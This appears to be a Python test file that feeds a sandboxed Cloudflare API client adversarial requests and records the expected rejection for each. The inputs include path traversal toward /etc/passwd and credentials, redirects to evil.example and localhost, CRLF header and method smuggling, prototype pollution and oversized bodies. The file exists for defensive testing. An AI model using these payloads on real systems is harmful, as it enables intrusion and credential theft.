# ruff: noqa: E501 - a program stands on one line
"""Requests that try to be something else: paths, headers, bodies, methods."""

import json

from tests.security.codemode.attack import CODE, EGRESS, INPUT, LARGE, REFUSED, UNKNOWN, UPSTREAM, Attack, request


def _path(name: str, path: str, *ends: str, sent: int = 0) -> Attack:
    return Attack(f"path: {name}", request(f"{{path: {json.dumps(path)}}}"), ends, sent)


PATHS = (
    _path("parent", "/zones/../accounts", EGRESS),
    _path("parents", "/zones/../../../../etc/passwd", EGRESS),
    _path("parent at the end", "/zones/..", EGRESS),
    _path("this", "/zones/./ZONE", EGRESS),
    _path("out of the prefix", "/client/v4/../../_sim/credentials", EGRESS),
    _path("encoded parent", "/zones/%2e%2e/accounts", EGRESS),
    _path("encoded in capitals", "/zones/%2E%2E/accounts", EGRESS),
    _path("half encoded parent", "/zones/.%2e/accounts", EGRESS),
    _path("encoded slash and parent", "/zones/..%2faccounts", EGRESS, INPUT),
    _path("encoded twice", "/zones/%252e%252e/dns_records", EGRESS, INPUT, UPSTREAM, sent=1),
    _path("parent and semicolon", "/zones/..;/accounts", EGRESS, INPUT, UNKNOWN, UPSTREAM, sent=1),
    _path("backslashes", "\\\\evil.example\\zones", EGRESS, UNKNOWN, INPUT),
    _path("backslash parent", "/zones/..\\accounts", EGRESS, UNKNOWN, INPUT),
    _path("host by two slashes", "//127.0.0.1:PORT/_sim/credentials", CODE, EGRESS),
    _path("host by three slashes", "///127.0.0.1:PORT/_sim/credentials", CODE, EGRESS),
    _path("absolute http", "http://127.0.0.1:PORT/_sim/credentials", CODE, EGRESS),
    _path("absolute https", "https://api.cloudflare.com.evil.example/client/v4/zones", CODE, EGRESS),
    _path("absolute, capitals", "HTTP://127.0.0.1:PORT/", CODE, EGRESS),
    _path("file", "file:///etc/passwd", CODE, EGRESS),
    _path("scheme without slashes", "http:127.0.0.1:PORT/", CODE, EGRESS, UNKNOWN),
    _path("user information", "@evil.example/zones", UNKNOWN, EGRESS),
    _path("user information behind a slash", "/@evil.example/zones", UNKNOWN, EGRESS),
    _path("port as a path", ":PORT/_sim/credentials", UNKNOWN, EGRESS),
    _path("another service of the host", "/_sim/credentials", UNKNOWN),
    _path("the prefix twice", "/client/v4/client/v4/zones", "ok", UNKNOWN, sent=1),
    _path("prefix look-alike", "/client/v4evil/zones", UNKNOWN),
    _path("line feeds", "/zones\r\nHost: evil.example\r\n\r\nGET /_sim/credentials HTTP/1.1", UNKNOWN, EGRESS, INPUT),
    _path("encoded line feeds", "/zones%0d%0aX-Evil:%201", UNKNOWN, EGRESS, INPUT),
    _path("line feeds in an id", "/zones/ZONE%0d%0aX-Evil:%201/dns_records", UNKNOWN, EGRESS, INPUT),
    _path("space and version", "/zones HTTP/1.1", UNKNOWN, EGRESS, INPUT),
    _path("null byte", "/zones/\u0000", UNKNOWN, EGRESS, INPUT),
    _path("encoded null byte", "/zones/%00/dns_records", EGRESS, INPUT),
    _path("full-width dots", "/zones/．．/dns_records", EGRESS, INPUT, UPSTREAM, sent=1),
    _path("overlong encoding of a slash", "/zones/%c0%af..%c0%af/dns_records", EGRESS, INPUT, UNKNOWN),
    _path("broken percent sign", "/zones/%zz/dns_records", EGRESS, INPUT, UNKNOWN),
    _path("empty segment", "/zones//dns_records", EGRESS, INPUT, UNKNOWN),
    _path("fragment", "/zones#/../../_sim/credentials", "ok", sent=1),
    _path("line feeds in the query", "/zones?name=x%0d%0aX-Evil:%201", "ok", UPSTREAM, INPUT, EGRESS, sent=1),
    _path("raw line feeds in the query", "/zones?name=x\r\nX-Evil: 1", "ok", UPSTREAM, INPUT, EGRESS, sent=1),
    _path("empty", "", CODE, INPUT, UNKNOWN),
    _path("long", "/zones/" + "a" * 60_000, INPUT, UNKNOWN, EGRESS),
    _path("many segments", "/a" * 20_000, INPUT, UNKNOWN, EGRESS),
    _path("an id with a slash inside", "/accounts/ACCOUNT%2f..%2fOTHER/members", EGRESS, INPUT, REFUSED),
    Attack("path: lone surrogate", request("{path: '/zones/\\ud800'}"), (INPUT, EGRESS, CODE)),
    Attack(
        "path: that changes when read again",
        "async () => { let n = 0; return cloudflare.request({ get path() { return n++ ? 'https://evil.example/' : '/zones'; } }).then(r => r.status) }",
        ("ok", CODE, EGRESS),
        1,
    ),
    Attack("path: an object", request("{path: {toString: () => '/zones/../accounts'}}"), (CODE, INPUT)),
    Attack("path: a list", request("{path: ['/zones', 'https://evil.example']}"), (CODE, INPUT)),
    Attack("path: a number", request("{path: 7}"), (CODE, INPUT)),
    Attack(
        "path: a String object",
        request("{path: Object.assign(new String('/zones'), { startsWith: () => true })}"),
        (CODE, INPUT),
    ),
)

_HEADERS = {
    "authorization": "{Authorization: 'Bearer cfut_mine'}",
    "authorization, spelt oddly": "{'aUtHoRiZaTiOn ': 'Bearer cfut_mine'}",
    "host": "{Host: 'evil.example'}",
    "cookie": "{Cookie: 'CF_Authorization=1'}",
    "key of an account": "{'X-Auth-Key': 'k', 'X-Auth-Email': 'e@acme.example'}",
    "service key": "{'X-Auth-User-Service-Key': 'v1.0-1'}",
    "length": "{'Content-Length': '0'}",
    "chunks": "{'Transfer-Encoding': 'chunked'}",
    "connection": "{Connection: 'upgrade', Upgrade: 'h2c'}",
    "method override": "{'X-HTTP-Method-Override': 'DELETE'}",
    "forwarded address": "{'X-Forwarded-For': '127.0.0.1', 'CF-Connecting-IP': '127.0.0.1'}",
    "line feeds in a name": "{'X-A\\r\\nHost': 'evil.example'}",
    "line feeds in a value": "{'If-Match': 'x\\r\\nAuthorization: Bearer cfut_mine'}",
    "empty name": "{'': 'x'}",
    "pseudo-header": "{':authority': 'evil.example'}",
    "prototype": 'JSON.parse(\'{"__proto__": {"Authorization": "Bearer x"}}\')',
    "Headers object": "new Headers([['Authorization', 'Bearer cfut_mine']])",
}
HEADERS = tuple(
    Attack(f"header: {name}", request(f"{{path: '/zones', headers: {headers}}}"), (INPUT, CODE))
    for name, headers in _HEADERS.items()
)

BODIES = (
    Attack(
        "body: too large",
        request(
            "{method: 'POST', path: '/zones/ZONE/dns_records', body: {type: 'TXT', name: 'x', content: 'x'.repeat(9e6)}}"
        ),
        (LARGE, CODE, INPUT),
    ),
    Attack(
        "body: too large, binary",
        request(
            "{method: 'PUT', path: '/accounts/ACCOUNT/workers/scripts/x', contentType: 'application/javascript', body: new Uint8Array(12e6)}"
        ),
        (LARGE, CODE, INPUT),
    ),
    Attack(
        "body: cycle",
        "async () => { const body = {}; body.self = body; return cloudflare.request({method: 'POST', path: '/zones/ZONE/dns_records', body}) }",
        (CODE,),
    ),
    Attack(
        "body: deep",
        "async () => { let body = {}; for (let n = 0; n < 100000; n++) body = {a: body}; return cloudflare.request({method: 'POST', path: '/zones/ZONE/dns_records', body}) }",
        (CODE, INPUT),
    ),
    Attack(
        "body: deep text",
        request(
            "{method: 'POST', path: '/zones/ZONE/dns_records', body: '['.repeat(100000), contentType: 'application/json'}"
        ),
        (INPUT, CODE),
    ),
    Attack(
        "body: member named twice",
        request(
            '{method: \'POST\', path: \'/zones/ZONE/dns_records\', contentType: \'application/json\', body: \'{"type":"TXT","type":"A","name":"x","content":"y"}\'}'
        ),
        (INPUT,),
        said="twice",
    ),
    Attack(
        "body: big number",
        request("{method: 'POST', path: '/zones/ZONE/dns_records', body: {ttl: 10n ** 400n}}"),
        (CODE, INPUT, UPSTREAM),
        1,
    ),
    Attack("body: on a GET", request("{path: '/zones', body: {name: 'x'}}"), (INPUT, "ok"), 1),
    Attack(
        "body: unknown fields of the host's language",
        request(
            "{method: 'POST', path: '/zones/ZONE/purge_cache', body: {__class__: 'os.system', purge_everything: 'yes'}}"
        ),
        (INPUT, UPSTREAM),
        1,
    ),
    Attack(
        "content type: line feeds",
        request(
            "{method: 'PUT', path: '/accounts/ACCOUNT/workers/scripts/x', body: 'x', contentType: 'application/javascript\\r\\nAuthorization: Bearer x'}"
        ),
        (INPUT, CODE),
    ),
    Attack(
        "content type: line feeds in a boundary",
        request(
            "{method: 'PUT', path: '/accounts/ACCOUNT/workers/scripts/x', rawBody: true, body: '--a--', contentType: 'multipart/form-data; boundary=\"a\\r\\nHost: evil\"'}"
        ),
        (INPUT, CODE),
    ),
    Attack(
        "content type: not this operation's",
        request(
            "{method: 'POST', path: '/zones/ZONE/dns_records', rawBody: true, body: 'a=b', contentType: 'multipart/form-data; boundary=x'}"
        ),
        (INPUT,),
    ),
    Attack(
        "method: smuggled line",
        request("{method: 'GET /_sim/credentials HTTP/1.1\\r\\nX:', path: '/zones'}"),
        (INPUT, CODE),
    ),
    Attack("method: CONNECT", request("{method: 'CONNECT', path: '/zones'}"), (INPUT,)),
    Attack("method: TRACE", request("{method: 'TRACE', path: '/zones'}"), (INPUT,)),
    Attack(
        "method: an object",
        request("{method: {toString: () => 'DELETE', toUpperCase: () => 'GET'}, path: '/zones'}"),
        (CODE, INPUT),
    ),
    Attack("query: object inside", request("{path: '/zones', query: {name: {$ne: 1}}}"), (INPUT,)),
    Attack(
        "query: very many",
        request("{path: '/zones', query: Object.fromEntries(Array.from({length: 5000}, (_, n) => ['q' + n, n]))}"),
        (INPUT,),
    ),
    Attack(
        "query: unknown account",
        request("{path: '/zones', query: {'account.id': 'OTHER', as_user: 'root'}}"),
        (INPUT,),
    ),
    Attack(
        "query: line feeds",
        request("{path: '/zones', query: {name: 'x\\r\\nHost: evil.example'}}"),
        ("ok", INPUT, EGRESS, UPSTREAM),
        1,
    ),
    Attack(
        "query: prototype",
        "async () => { Object.prototype.evil = '1'; return (await cloudflare.request({path: '/zones', query: {page: 1}})).status }",
        ("ok", INPUT),
        1,
    ),
    Attack(
        "options: unknown",
        request("{path: '/zones', url: 'http://evil.example', origin: 'http://evil.example'}"),
        (CODE,),
    ),
    Attack("options: base", request("{path: '/zones', baseURL: 'http://127.0.0.1:PORT/_sim'}"), (CODE,)),
)
